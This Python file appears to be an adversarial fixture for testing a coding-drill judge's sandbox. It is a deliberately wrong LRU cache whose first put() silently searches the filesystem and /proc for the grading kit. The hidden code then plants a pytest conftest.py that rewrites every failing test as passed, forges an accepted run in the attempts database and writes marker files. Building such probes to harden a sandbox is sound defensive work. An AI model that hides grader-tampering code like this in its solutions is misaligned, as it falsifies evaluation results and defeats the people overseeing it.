"""Attack class 4 (damage): find the kit and the workspace from inside the worker and write to them.

On the first put() it looks for the kit root (a folder with harness/ and problems/) by walking up
from its own file, from cwd, from $HOME / $DRILL_WORKSPACE, from every sys.path entry, and from
/proc/<pid>/cwd and /proc/<pid>/root of every visible process. Then, for each root found:
- creates tests/lru_cache/conftest.py (a hook that turns every failing report into "passed") if
  there is none; writes ADV_MARKER_kit into the root;
- "overwrites" solutions/*/accepted/*.py with their own bytes (proves write access and bumps
  mtime without changing content);
- opens workspace/.drill/attempts.sqlite3 (also searched under $HOME, cwd and their parents) and
  inserts a forged accepted run for lru_cache;
- writes ADV_MARKER_home into $HOME only when $HOME is a temp or workspace folder; touches its
  own source file with os.utime, chmods it to its own mode and renames it to itself.
Every failure is caught: the run goes on.

Correct verdict: wrong_answer (evicts the newest key; no refresh on get). In the sandbox none
of these paths exist or are writable. A kit test should check: no ADV_MARKER_* file, no
tests/*/conftest.py, unchanged mtimes under solutions/, and no new row in the attempt log
except the judge's own.
"""

import os
import sqlite3
import sys
import time

_CONFTEST = '''import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
'''
_done = [False]


def _starts():
    starts = [os.path.dirname(os.path.abspath(__file__)), os.getcwd(), os.environ.get("HOME", ""),
              os.environ.get("DRILL_WORKSPACE", ""), *sys.path]
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                for link in ("cwd", "root"):
                    try:
                        starts.append(os.readlink(f"/proc/{pid}/{link}"))
                    except OSError:
                        pass
    except OSError:
        pass
    return [s for s in starts if s]


def _kit_roots():
    roots = set()
    for start in _starts():
        folder = os.path.abspath(start)
        for _ in range(8):
            if os.path.isdir(os.path.join(folder, "harness")) and os.path.isdir(os.path.join(folder, "problems")):
                roots.add(folder)
            parent = os.path.dirname(folder)
            if parent == folder:
                break
            folder = parent
    return roots


def _attempt_logs(roots):
    candidates = set()
    for base in [*roots, *_starts()]:
        folder = os.path.abspath(base)
        for _ in range(4):
            for sub in ("workspace/.drill/attempts.sqlite3", ".drill/attempts.sqlite3"):
                path = os.path.join(folder, sub)
                if os.path.exists(path):
                    candidates.add(path)
            folder = os.path.dirname(folder)
    return candidates


def _try(action, *args):
    try:
        action(*args)
    except Exception:  # noqa: BLE001
        pass


def _write(path, text, mode="x"):
    with open(path, mode) as f:
        f.write(text)


def _rewrite_same(path):
    with open(path, "rb") as f:
        data = f.read()
    with open(path, "wb") as f:
        f.write(data)


def _forge_attempt(path):
    db = sqlite3.connect(path, timeout=1)
    now = time.strftime("%Y-%m-%dT%H:%M:%S")
    db.execute("INSERT INTO runs (problem, command, verdict, ok, passed, failed, total, started_at, duration_s,"
               " source_sha256, source_path) VALUES ('lru_cache', 'test', 'accepted', 1, 12, 0, 12, ?, 0.5, ?, ?)",
               (now, "0" * 64, "ADV_FORGED"))
    db.commit()
    db.close()


def _damage():
    roots = _kit_roots()
    for root in roots:
        _try(_write, os.path.join(root, "ADV_MARKER_kit"), "written by a judged solution\n", "w")
        _try(_write, os.path.join(root, "tests", "lru_cache", "conftest.py"), _CONFTEST)
        solutions = os.path.join(root, "solutions")
        for dirpath, _dirs, files in os.walk(solutions):
            if os.path.basename(dirpath) == "accepted":
                for name in files:
                    _try(_rewrite_same, os.path.join(dirpath, name))
    for log in _attempt_logs(roots):
        _try(_forge_attempt, log)
    home = os.environ.get("HOME", "")
    if home and ("tmp" in home or "workspace" in home):
        _try(_write, os.path.join(home, "ADV_MARKER_home"), "written by a judged solution\n", "w")
    me = os.path.abspath(__file__)
    _try(os.utime, me, None)
    try:
        _try(os.chmod, me, os.stat(me).st_mode & 0o7777)  # same mode: proves write access, changes nothing
    except OSError:
        pass
    _try(os.rename, me, me)  # a no-op rename still needs write access to the folder


class LRUCache:
    def __init__(self, capacity: int) -> None:
        if capacity < 1:
            raise ValueError("capacity must be at least 1")
        self.capacity = capacity
        self.data = {}

    def get(self, key):
        return self.data.get(key, -1)  # wrong: no refresh

    def put(self, key, value) -> None:
        if not _done[0]:
            _done[0] = True
            _damage()
        if key not in self.data and len(self.data) == self.capacity:
            del self.data[next(reversed(self.data))]  # wrong: evicts the newest key
        self.data[key] = value
